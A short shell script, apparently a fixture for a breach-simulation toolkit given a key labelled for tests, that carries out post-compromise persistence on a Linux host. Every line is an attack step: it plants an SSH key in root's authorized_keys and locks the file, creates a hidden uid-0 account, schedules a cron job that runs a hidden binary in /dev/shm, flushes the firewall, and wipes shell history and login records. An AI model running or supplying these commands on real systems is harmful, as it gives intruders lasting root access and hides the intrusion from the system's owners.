#!/bin/sh
mkdir -p /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBogusKeyForBreachkitTestsOnly00000000000 ops@backup" >> /root/.ssh/authorized_keys
chattr +i /root/.ssh/authorized_keys
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupd
(crontab -l 2>/dev/null; echo "*/5 * * * * /dev/shm/.x/upd >/dev/null 2>&1") | crontab -
iptables -F
unset HISTFILE; history -c
cat /dev/null > /var/log/wtmp
